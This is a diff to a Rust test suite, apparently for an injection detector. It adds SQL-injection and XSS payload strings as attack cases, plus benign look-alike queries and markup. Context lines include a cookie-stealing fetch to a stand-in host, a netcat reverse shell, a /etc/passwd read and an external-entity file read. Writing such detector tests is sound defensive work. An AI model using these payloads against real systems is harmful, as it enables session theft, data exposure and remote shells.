@@ -75,6 +75,15 @@ const ATTACKS: &[(Category, Source, &str)] = &[
     (Category::Sqli, Source::User, "sort=;update accounts"),
     (Category::Sqli, Source::User, "t=from (select count(*), concat(version(), 0x3a) from `information_schema`.tables)"),
     (Category::Sqli, Source::User, "id=1\u{2019} OR \u{2019}1\u{2019}=\u{2019}1"),
+    // probing shapes: tautologies without `or`, quote juxtaposition, sub-selects, clause tails
+    (Category::Sqli, Source::User, "page=3&sort=5=5"),
+    (Category::Sqli, Source::User, "<?xml version=\"1.0\"?><order ref=\"q'or'q\"/>"),
+    (Category::Sqli, Source::User, "{\"filter\": \"x' OR price IS NOT NULL--\"}"),
+    (Category::Sqli, Source::User, "name=(SELECT TOP 1 password FROM logins)"),
+    (Category::Sqli, Source::User, "col=4 AS \"n\" FROM"),
+    (Category::Sqli, Source::User, "sort=id;SET @q=0x73656c656374;PREPARE s FROM @q;EXECUTE s;"),
+    (Category::Sqli, Source::User, "q=%27%3Bprint%27"),
+    (Category::Sqli, Source::User, "user={\"$exists\": true}"),
     // script injection
     (Category::Xss, Source::User, "<script>fetch('//x.example/'+document.cookie)</script>"),
     (Category::Xss, Source::User, "<img src=x onerror=alert(1)>"),
@@ -88,6 +97,16 @@ const ATTACKS: &[(Category, Source, &str)] = &[
     (Category::Xss, Source::User, "{\"link\":\"jav&#10;ascript:fetch('//203.0.113.9')\"}"),
     (Category::Xss, Source::User, "v=+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
     (Category::Xss, Source::User, "n=document/**/./**/cookie"),
+    // attribute vectors, XML that fetches, DOM writes, XBL, UTF-7, JSFuck, JS string break-outs
+    (Category::Xss, Source::User, "c=' onpagereveal=go()"),
+    (Category::Xss, Source::User, "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://k3v9q2m7x1c8z5b4n6a0s2d4f6g8.oast.example/r.xsd\"/>"),
+    (Category::Xss, Source::User, "Accept: text/html !ENTITY x SYSTEM \"file:///etc/hosts\""),
+    (Category::Xss, Source::User, "p=document.querySelector('h2').innerHTML='owned'"),
+    (Category::Xss, Source::User, "<b style=\"-moz-binding:url(//x.example/b.xml#a)\">"),
+    (Category::Xss, Source::User, "q=+ADw-img src=x+AD4-"),
+    (Category::Xss, Source::User, "t=\"+setInterval(run,5)+\""),
+    (Category::Xss, Source::User, "v=\\xbci\\xbehi\\xbc/i\\xbe"),
+    (Category::Xss, Source::User, "x=<:vmlframe src=a>"),
     // command injection: list operators, substitution, reverse shells, PowerShell, shellshock
     (Category::CommandInjection, Source::User, "127.0.0.1; cat /etc/passwd"),
     (Category::CommandInjection, Source::User, "name=x|nc 198.51.100.7 4444 -e /bin/sh"),
@@ -162,6 +181,20 @@ const BENIGN: &[(Source, &str)] = &[
     (Source::User, "and 7 more apples"),
     (Source::User, "For each item in (the list below), tell me if it exists in stock."),
     (Source::User, "How do I call alert() only once when the page loads?"),
+    // SQL named or quoted in questions
+    (Source::User, "How do I shrink tempdb in SQL Server?"),
+    (Source::User, "Why is this query slow: SELECT name FROM users WHERE id IN (SELECT user_id FROM orders)?"),
+    (Source::User, "Explain what EXECUTE IMMEDIATE does in PL/SQL."),
+    (Source::User, "In MySQL, is 1=1 always true?"),
+    (Source::User, "Write a query with CASE WHEN score > 50 THEN 'pass' END"),
+    (Source::User, "Create table of contents for chapters 1-5, as shown from page 2."),
+    (Source::User, "\"3/4\" - 1/2\" wide ribbon, 12\" long"),
+    // markup and script named in questions and ordinary code
+    (Source::User, "<project xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd\">"),
+    (Source::User, "el.textContent = 'Saved';"),
+    (Source::User, "My settings: onboarding=done, theme=dark"),
+    (Source::User, "What does !![] evaluate to in JavaScript, and why?"),
+    (Source::User, "How do I declare an external entity in a DTD, and why do parsers disable them?"),
 ];
 
 #[test]
